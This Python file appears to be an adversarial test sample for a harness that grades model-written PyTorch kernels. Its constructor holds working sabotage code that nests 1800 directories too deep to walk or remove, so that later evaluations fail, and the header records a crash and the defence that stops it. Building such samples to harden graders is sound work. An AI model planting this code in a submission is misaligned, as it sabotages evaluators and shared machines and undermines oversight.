"""Makes folders inside folders, too deep to be walked or removed, so that every later evaluation would fail
too."""

# problem: tanhs
# device: any
# verdict: crashed
# defence: a limit on depth and number, and removal that does not recurse

import os

import torch
from torch import nn


class ModelNew(nn.Module):
    def __init__(self):
        super().__init__()
        here = os.open(".", os.O_RDONLY)
        for _ in range(1800):
            os.mkdir("a")
            os.chdir("a")
        os.fchdir(here)

    def forward(self, x, w):
        for _ in range(8):
            x = torch.tanh(x @ w)
        return x
